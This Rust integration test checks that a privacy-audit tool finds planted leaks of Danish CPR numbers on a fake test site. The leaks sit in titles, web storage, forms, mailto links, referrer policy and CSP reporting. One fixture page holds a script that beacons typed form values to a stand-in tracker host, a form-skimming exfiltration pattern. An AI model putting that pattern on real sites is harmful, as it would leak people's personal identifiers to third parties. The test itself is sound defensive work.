//! All rules of pages, planted on a small site and found in a real Chromium; each has a look-alike beside it.

mod kit;

use kit::served::Served;
use kit::{no_browser, one_browser};
use sites::{HostedSite, Received, Reply};

const SITE: &str = "www.borger.test";
const TRACKER: &str = "maaling.eksempel.test";

/// Born in 2045: nobody's. The one that an audit knows without being told; with declared persons alone no field gets a
/// number of its own.
const NUMBER: &str = "0101455017";

const REGISTRY: &str = r#"
[[vendor]]
id = "nordia"
name = "Nordia A/S"

[[system]]
id = "borger"
vendor = "nordia"
environment = "test"
submit = "never"
base_urls = ["https://www.borger.test/"]
"#;

const LINKS: [&str; 10] = [
    "/titel",
    "/lager",
    "/cookie",
    "/mail",
    "/get",
    "/klartekst",
    "/login",
    "/bestil",
    "/skriv",
    "/sag?cpr=0101455017",
];

fn page(title: &str, body: &str) -> Reply {
    Reply::html(format!(
        "<!doctype html><html lang=da><meta charset=utf-8><link rel=icon href='data:,'><title>{title}</title>{body}"
    ))
}

fn site(received: &Received) -> Reply {
    let form = |name: &str, rest: &str| {
        format!("<form name={name} {rest}><label>CPR-nummer <input name=cpr></label><button>Send</button></form>")
    };
    let no_store = |reply: Reply| reply.with_header("Cache-Control", "no-store");
    match received.path() {
        "/" => {
            let links = LINKS.map(|path| format!("<p><a href='{path}'>{path}</a>")).concat();
            page("Forside, sag 9945012345", &links)
        }
        "/titel" => no_store(page(&format!("Borger {NUMBER}"), "")),
        // Numbers that are none stand beside those that are.
        "/lager" => page(
            "Lager",
            &format!(
                "<script>localStorage.setItem('kladde', JSON.stringify({{cpr: '{NUMBER}'}}));\
             localStorage.setItem('sidst', '1763784000123'); sessionStorage.setItem('trin', btoa('{NUMBER}'));\
             globalThis.dataLayer = [{{event: 'vis', bruger: {{cpr: '010145-5017'}}}}];\
             const ask = indexedDB.open('sager', 1); ask.onupgradeneeded = () => ask.result.createObjectStore('s')\
             .put({{cpr: '{NUMBER}'}}, 1);\
             caches.open('svar').then((cache) => cache.put('/api', new Response('{{\"cpr\":\"{NUMBER}\"}}',\
             {{headers: {{'content-type': 'application/json'}}}})));</script>"
            ),
        ),
        "/cookie" => {
            page("Cookie", &format!("<script>document.cookie = 'borger={NUMBER}; path=/ingen; secure'</script>"))
        }
        "/mail" => page(
            "Mail",
            "<a href='mailto:post@borger.test?subject=Sag%20010145%2D5017'>Skriv</a>\
             <a href='mailto:post@borger.test?subject=Sag%202026-123456'>Skriv</a>",
        ),
        "/get" => page("Find", &form("find", "method=get action=/fundet")),
        "/klartekst" => page("Klartekst", &form("klar", "method=post action='http://www.borger.test/send'")),
        "/login" => page(
            "Log ind",
            "<form name=logind method=post action=/ind><label>Bruger <input name=bruger></label>\
             <label>Kode <input type=password name=kode></label><button>Log ind</button></form>",
        ),
        "/bestil" => page("Bestil tid", &form("bestil", "method=post action=/bestilt")),
        "/skriv" => page(
            "Skriv",
            &(form("skriv", "method=post action=/skrevet")
                + "<script>\
             document.querySelector('input').addEventListener('change', (event) =>\
             navigator.sendBeacon('https://maaling.eksempel.test/c', 'felt=' + event.target.value))</script>"),
        ),
        "/sag" => {
            let policy = format!("img-src 'self'; report-uri https://{TRACKER}/csp");
            let mut reply = page("Sag", "<p>Din sag<img src='https://billede.eksempel.test/p.gif'>")
                .with_header("Referrer-Policy", "unsafe-url")
                .with_header("Content-Security-Policy", &policy);
            reply.headers.retain(|(name, _)| name != "Cache-Control");
            reply
        }
        _ => Reply::not_found(),
    }
}

#[test]
fn every_rule_of_pages_is_found_where_it_is_planted() {
    let _alone = one_browser();
    if no_browser() {
        return;
    }
    let served = Served::start(vec![HostedSite::new(SITE, site), HostedSite::new(TRACKER, |_| Reply::no_content())]);
    served.bench.write("cprvagt.toml", REGISTRY);
    let ran = served.bench.run(&served.arguments(&["audit", "borger"]));
    ran.ends_with(1);
    let scan = served.bench.scan();
    let text = |value: &serde_json::Value| value.as_str().unwrap_or_default().to_owned();
    let mut told: Vec<(String, String, String)> = Vec::new();
    for finding in scan["findings"].as_array().expect("findings") {
        let page = text(&finding["page"]).replace("https://www.borger.test", "");
        told.push((text(&finding["rule"]), page, text(&finding["parameter"])));
    }
    let of_pages: Vec<String> = {
        let rules = [
            "cpr-in-title",
            "cpr-in-storage",
            "cpr-in-mailto",
            "form-get-cpr",
            "form-cleartext",
            "form-before-login",
            "form-exfiltration",
            "cacheable-cpr-page",
            "referrer-policy-exposes-url",
            "reporting-exposes-url",
        ];
        let mut told: Vec<String> = told
            .iter()
            .filter(|(rule, _, _)| rules.contains(&rule.as_str()))
            .map(|(rule, page, parameter)| format!("{rule} {page} {parameter}"))
            .collect();
        told.sort();
        told
    };
    let expected = [
        "cacheable-cpr-page /sag cache-control",
        "cpr-in-mailto /mail subject",
        "cpr-in-storage /cookie borger",
        "cpr-in-storage /lager dataLayer > bruger.cpr",
        "cpr-in-storage /lager kladde > cpr",
        "cpr-in-storage /lager sager/s > [].cpr",
        "cpr-in-storage /lager svar",
        "cpr-in-storage /lager trin",
        "cpr-in-title /titel title",
        "form-before-login /bestil bestil > cpr",
        "form-before-login /get find > cpr",
        "form-before-login /klartekst klar > cpr",
        "form-before-login /skriv skriv > cpr",
        "form-cleartext /klartekst klar > cpr",
        "form-exfiltration /skriv felt",
        "form-get-cpr /get find > cpr",
        "referrer-policy-exposes-url /sag referrer-policy",
        "reporting-exposes-url /sag content-security-policy > maaling.eksempel.test",
    ];
    assert_eq!(of_pages, expected, "{told:#?}");
    // The report that was sent is a leak to whoever got it.
    let reported = |finding: &&serde_json::Value| {
        finding["rule"] == "cpr-in-third-party-request" && text(&finding["parameter"]).contains("document-uri")
    };
    let reported = scan["findings"].as_array().and_then(|all| all.iter().find(reported)).expect("a report");
    assert_eq!(text(&reported["channel"]), "body");
    assert_eq!(text(&reported["recipient"]["domain"]), "eksempel.test");
    let exfiltrated = scan["findings"].as_array().and_then(|all| all.iter().find(|f| f["rule"] == "form-exfiltration"));
    let origin = exfiltrated.map(|finding| &finding["form"]);
    assert_eq!(origin.map(|origin| (&origin["form"], &origin["field"])), Some((&"skriv".into(), &"cpr".into())));
    assert!(
        scan["self_test"]["probes"].as_array().expect("probes").iter().all(|probe| probe["found"] == true),
        "{scan}"
    );
}
